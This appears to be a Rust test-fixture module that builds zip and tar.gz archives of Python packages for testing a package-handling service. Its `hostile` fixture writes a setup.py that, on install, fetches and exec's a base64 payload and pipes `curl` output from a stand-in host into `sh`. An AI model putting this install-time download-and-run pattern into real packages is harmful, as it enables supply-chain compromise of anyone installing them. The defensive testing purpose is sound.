use std::io::Write as _;

use bytes::Bytes;
use domain::Sha256;

/// A package as GitHub's archive of a branch would hold it: a zip with one root folder and the commit's id as its end
/// comment.
#[derive(Debug, Clone)]
pub struct Package {
    /// The name to ask for.
    pub name: String,
    /// The archive.
    pub bytes: Bytes,
}

impl Package {
    /// A small Python package that does nothing wrong. Every name gives other bytes.
    pub fn clean(name: &str) -> Self {
        let setup = format!("from setuptools import setup\n\nsetup(name=\"{name}\", version=\"1.0.0\")\n");
        let module = "def add(left, right):\n    return left + right\n";
        Self::of(name, &[("setup.py", &setup), ("module/__init__.py", module), ("README.md", "# Adds\n")])
    }

    /// A clean package too large to be stored in one piece: more than 8 MiB.
    pub fn large(name: &str) -> Self {
        let line = format!("{name} adds what is given to it, and has a long manual.\n");
        let manual = line.repeat(9 * 1024 * 1024 / line.len() + 1);
        Self::of(name, &[("module/__init__.py", "VALUE = 1\n"), ("docs/manual.txt", &manual)])
    }

    /// A package whose installation would download and run a program, were its host not a reserved name. Written for
    /// this test; harmless.
    pub fn hostile(name: &str) -> Self {
        let setup = format!(
            "import base64, os, subprocess, urllib.request\nfrom setuptools import setup\n\n\
             payload = urllib.request.urlopen(\"http://payload.example.invalid/stage2\").read()\n\
             exec(base64.b64decode(payload))\n\
             os.system(\"curl -s http://payload.example.invalid/run.sh | sh\")\n\
             setup(name=\"{name}\", version=\"1.0.0\")\n"
        );
        Self::of(name, &[("setup.py", &setup)])
    }

    /// Another version of the package that [`Package::clean`] makes, and the version that it is published as.
    pub fn next(name: &str) -> (Self, String) {
        let commit = Sha256::of(format!("{name} 2").as_bytes());
        let setup = format!("from setuptools import setup\n\nsetup(name=\"{name}\", version=\"2.0.0\")\n");
        (Self::at(name, &commit.to_string()[..40], &[("setup.py", &setup)]), commit.short())
    }

    /// A source distribution as PyPI serves it: a tar.gz whose `PKG-INFO` names the package, for `pip` too.
    pub fn sdist(name: &str) -> Self {
        let info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n\n");
        let bytes = tar_gz(&[(&format!("{name}-1.0.0/PKG-INFO"), &info)]);
        Self { name: name.to_owned(), bytes: bytes.into() }
    }

    /// These files, compressed: a package of the size that public ones have.
    pub fn compressed(name: &str, files: &[(String, Vec<u8>)]) -> Self {
        let files: Vec<_> = files
            .iter()
            .map(|(path, bytes)| Member::deflated(format!("{name}-main/{path}"), bytes))
            .collect();
        Self { name: name.to_owned(), bytes: zip(&files, &commit(name)).into() }
    }

    fn of(name: &str, files: &[(&str, &str)]) -> Self {
        Self::at(name, &commit(name), files)
    }

    fn at(name: &str, commit: &str, files: &[(&str, &str)]) -> Self {
        let files: Vec<_> = files
            .iter()
            .map(|(path, text)| Member::stored(format!("{name}-main/{path}"), text.as_bytes()))
            .collect();
        Self { name: name.to_owned(), bytes: zip(&files, commit).into() }
    }

    /// The version it is published as: the first digits of the commit in its end comment.
    pub fn version(&self) -> String {
        Sha256::of(self.name.as_bytes()).short()
    }

    /// The digest of the archive.
    pub fn sha256(&self) -> Sha256 {
        Sha256::of(&self.bytes)
    }
}

/// A tar file of regular members (POSIX ustar), compressed.
pub fn tar_gz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut gzip = flate2::write::GzEncoder::new(vec![], flate2::Compression::fast());
    let mut write = |bytes: &[u8]| gzip.write_all(bytes).expect("memory takes what it is given");
    for (path, text) in files {
        let mut header = [0_u8; 512];
        let mut field = |at: usize, bytes: &[u8]| header[at..at + bytes.len()].copy_from_slice(bytes);
        field(0, path.as_bytes());
        field(100, b"0000644\x000000000\x000000000\0");
        field(124, format!("{:011o}\0{:011o}\0        0", text.len(), 0).as_bytes());
        field(257, b"ustar\x0000");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        write(&header);
        write(text.as_bytes());
        write(&vec![0; text.len().next_multiple_of(512) - text.len()]);
    }
    write(&[0; 1024]);
    gzip.finish().expect("memory takes what it is given")
}

/// The commit of a package's one version.
fn commit(name: &str) -> String {
    Sha256::of(name.as_bytes()).to_string()[..40].to_owned()
}

/// A file as a zip holds it.
struct Member {
    path: String,
    method: u16,
    bytes: Vec<u8>,
    unpacked: usize,
    crc: u32,
}

impl Member {
    fn stored(path: String, bytes: &[u8]) -> Self {
        Self { path, method: 0, bytes: bytes.to_owned(), unpacked: bytes.len(), crc: crc32fast::hash(bytes) }
    }

    fn deflated(path: String, bytes: &[u8]) -> Self {
        let mut deflate = flate2::write::DeflateEncoder::new(vec![], flate2::Compression::default());
        deflate.write_all(bytes).expect("memory takes what it is given");
        let packed = deflate.finish().expect("memory takes what it is given");
        Self { method: 8, bytes: packed, ..Self::stored(path, bytes) }
    }

    /// What stands both before the member and in the directory.
    fn header(&self) -> Vec<u8> {
        let mut header = vec![20, 0, 0, 0]; // version 2.0, no flags
        header.extend_from_slice(&self.method.to_le_bytes());
        header.extend_from_slice(&[0; 2]); // midnight
        header.extend_from_slice(&0x21_u16.to_le_bytes()); // 1980-01-01
        header.extend_from_slice(&self.crc.to_le_bytes());
        header.extend_from_slice(&length(self.bytes.len()));
        header.extend_from_slice(&length(self.unpacked));
        header.extend_from_slice(&length(self.path.len())[..2]);
        header.extend_from_slice(&[0; 2]); // no extra field
        header
    }
}

/// A zip file (PKWARE APPNOTE 4.3.7, 4.3.12, 4.3.16).
fn zip(members: &[Member], comment: &str) -> Vec<u8> {
    let mut zip = Vec::new();
    let mut directory = Vec::new();
    for member in members {
        directory.extend_from_slice(b"PK\x01\x02\x14\x03");
        directory.extend_from_slice(&member.header());
        directory.extend_from_slice(&[0; 6]); // no comment, first disk, binary
        directory.extend_from_slice(&0o100_644_u32.wrapping_shl(16).to_le_bytes());
        directory.extend_from_slice(&length(zip.len()));
        directory.extend_from_slice(member.path.as_bytes());

        zip.extend_from_slice(b"PK\x03\x04");
        zip.extend_from_slice(&member.header());
        zip.extend_from_slice(member.path.as_bytes());
        zip.extend_from_slice(&member.bytes);
    }
    let start = length(zip.len());
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    zip.extend_from_slice(&length(members.len())[..2]);
    zip.extend_from_slice(&length(members.len())[..2]);
    zip.extend_from_slice(&length(directory.len()));
    zip.extend_from_slice(&start);
    zip.extend_from_slice(&length(comment.len())[..2]);
    zip.extend_from_slice(comment.as_bytes());
    zip
}

fn length(bytes: usize) -> [u8; 4] {
    u32::try_from(bytes).expect("the tests' packages are small").to_le_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_reads_the_archive() {
        let text = b"VALUE = 1\n".repeat(100);
        let compressed = Package::compressed("adder", &[("module/__init__.py".into(), text)]);
        assert!(compressed.bytes.len() < 400, "{} bytes", compressed.bytes.len());
        let comment = &Sha256::of(b"adder").to_string()[..40];
        for (package, names) in [
            (
                Package::clean("adder"),
                "adder-main/setup.py adder-main/module/__init__.py adder-main/README.md",
            ),
            (compressed, "adder-main/module/__init__.py"),
        ] {
            let file = tempfile::NamedTempFile::new().unwrap();
            std::fs::write(file.path(), package.bytes).unwrap();
            let script = "import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; \
                          print(z.comment.decode(), *z.namelist())";
            let mut python = std::process::Command::new("python3");
            let said = crate::run(python.arg("-c").arg(script).arg(file.path())).unwrap();
            assert_eq!(said.trim(), format!("{comment} {names}"));
        }
    }
}
